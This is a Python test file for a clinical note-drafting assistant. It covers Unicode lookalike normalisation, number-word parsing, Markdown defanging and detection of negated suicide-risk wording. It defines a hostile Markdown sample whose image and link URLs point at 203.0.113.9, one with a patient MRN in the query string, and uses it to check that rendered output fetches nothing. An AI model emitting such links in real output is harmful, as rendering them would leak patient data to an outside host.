"""The text module: one normal form, number words, figures and safe Markdown."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest
from markdown_it import MarkdownIt

from assistant.text import (
    defang_markdown,
    escape_links,
    escape_markdown,
    figure_mentions,
    figures,
    has_hidden_characters,
    normalise,
    number_words,
    words_to_digits,
)
from assistant.validation.numbers import numbers_in


@pytest.mark.parametrize(
    ("written", "reads"),
    [
        ("de\u200bnies", "denies"),  # zero-width space
        ("d\u0435nies", "denies"),  # Cyrillic ie
        ("n\u043e SI", "no SI"),  # Cyrillic o
        ("d\u200denies\u2060", "denies"),  # zero-width joiner, word joiner
        ("\u202edenies", "denies"),  # bidi override
        ("ｄｅｎｉｅｓ", "denies"),  # full-width letters (NFKC)
        ("su\u00adicidal", "suicidal"),  # soft hyphen
    ],
)
def test_lookalike_spellings_read_as_the_plain_word(written: str, reads: str) -> None:
    assert normalise(written) == reads
    assert has_hidden_characters(written)


def test_typographic_quotes_and_dashes_read_plainly_and_are_not_hidden() -> None:
    text = "Client\u2019s panic attacks: 4\u20135 a week \u2014 \u201cevery day\u201d"
    assert normalise(text) == 'Client\'s panic attacks: 4-5 a week - "every day"'
    assert not has_hidden_characters(text)


def test_plain_text_is_unchanged() -> None:
    text = "Client reports passive suicidal ideation; no plan or intent."
    assert normalise(text) == text and not has_hidden_characters(text)


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("seventeen panic attacks", 17),
        ("twenty-one days", 21),
        ("twenty one days", 21),
        ("cut it by half", 0.5),
        ("a third of nights", 1 / 3),
        ("a dozen times", 12),
        ("twice a week", 2),
        ("ninety minutes", 90),
        ("one hundred and five", 105),
    ],
)
def test_number_words_are_read(text: str, value: float) -> None:
    assert [v for _, v in number_words(text)] == [pytest.approx(value)]


def test_one_as_a_pronoun_is_not_a_figure() -> None:
    assert number_words("no one at home; one of the friends") == []
    assert words_to_digits("at least one walk, seventeen attacks") == "at least 1 walk, 17 attacks"


def test_figures_are_digits_and_words_but_not_dates_codes_names_or_phone_numbers() -> None:
    text = (
        "PHQ-9 from 21 on 2026-09-21 (F33.1), seventeen panic attacks; "
        "call 555-867-5309 or (212) 555-0147; SSN 123-45-6789; MRN 31877002"
    )
    assert figures(text) == {21.0, 17.0}
    assert numbers_in(text) == figures(text)  # the validator's public name still works


def test_a_figure_carries_what_it_counts() -> None:
    (mention,) = figure_mentions("missed 6 work days last month")
    assert mention[0] == 6.0 and {"misse", "work"} <= mention[1]


def _renders_fetch(markdown: str) -> list[str]:
    """Tags a browser would fetch from or follow when this Markdown is rendered (CommonMark
    with raw HTML allowed, as a Markdown viewer would)."""
    html = MarkdownIt("commonmark").enable("table").render(markdown)
    return re.findall(r"<(?:img|a|script|iframe|link|source|video|audio|object)\b[^>]*>", html)


HOSTILE = (
    "![](http://203.0.113.9/x.png?mrn=MRN-31877) <img src=http://203.0.113.9/y> [z](http://a)"
    " <http://203.0.113.9/auto> ![r][ref]\n\n[ref]: http://203.0.113.9/ref.png"
)


def test_the_hostile_sample_would_fetch_if_rendered_raw() -> None:
    assert len(_renders_fetch(HOSTILE)) >= 4  # so the tests below can fail


@pytest.mark.parametrize("escape", [escape_markdown, escape_links])
def test_escaped_text_renders_as_typed_and_fetches_nothing(escape: Callable[[str], str]) -> None:
    out = escape(HOSTILE)
    assert _renders_fetch(out) == []
    assert "203.0.113.9/x.png" in MarkdownIt("commonmark").render(out)  # still shown as text


def test_defanged_document_keeps_its_layout_but_fetches_nothing() -> None:
    doc = "# Plan\n\n**Goal** " + HOSTILE + "\n\n- item"
    out = defang_markdown(doc)
    html = MarkdownIt("commonmark").render(out)
    assert "<h1>Plan</h1>" in html and "<strong>Goal</strong>" in html and "<li>item</li>" in html
    assert _renders_fetch(out) == []


@pytest.mark.parametrize("fmt", ["md", "client"])
def test_exported_markdown_renders_no_image_link_or_html(fmt: str) -> None:
    from assistant import intake as intake_mod
    from assistant.drafting import draft
    from assistant.export import render
    from tests.conftest import INTAKES

    intake = intake_mod.load(INTAKES / "gad_nurse.json")
    intake.presenting_problems[0].summary += " " + HOSTILE
    intake.strengths.append(HOSTILE)
    plan = draft(intake, "offline").plan
    assert any("203.0.113.9" in t for _, t in plan.texts())  # the hostile text is in the plan
    out = render(plan, fmt, intake=intake).decode("utf-8")
    if fmt == "client":
        out = defang_markdown(out)  # how the app shows the client copy
    assert _renders_fetch(out) == []


# ---------------------------------------------------------------- risk written as absent


@pytest.mark.parametrize(
    "sentence",
    [
        "Negative for SI.",
        "Client reports no suicidal ideation.",
        "Client de\u200bnies suicidal ideation.",
        "Client d\u0435nies SI.",
        "No SI/HI.",
        "SI: denied.",
        "Safety planning is unnecessary.",
        "No current risk.",
        "SI: no",  # read by medspaCy's ConText, not the patterns
        "Suicidal ideation unlikely.",  # likewise
    ],
)
def test_risk_written_as_absent_is_read_as_negated(sentence: str) -> None:
    from assistant.validation.risk_text import negated_risk

    assert [s for s in negated_risk(sentence) if not s.hypothetical], sentence


@pytest.mark.parametrize(
    "sentence",
    [
        "Passive suicidal ideation (wish to be dead), no plan or intent.",
        "Risk not assessed at intake (suicidal ideation, self-harm).",
        "SI not ruled out.",
        "Write a Stanley-Brown safety plan with the client by session 2.",
        "Screen with the C-SSRS at every session and update the safety plan when risk rises.",
    ],
)
def test_risk_stated_or_unassessed_is_not_negated(sentence: str) -> None:
    from assistant.validation.risk_text import negated_risk

    assert negated_risk(sentence) == (), sentence


def test_a_narrower_negation_and_a_goal_are_told_apart() -> None:
    from assistant.validation.risk_text import negated_risk

    (narrow,) = negated_risk("No active SI.")
    assert narrow.qualified == "active"
    (goal,) = negated_risk("Client will be free of suicidal ideation.")
    assert goal.hypothetical
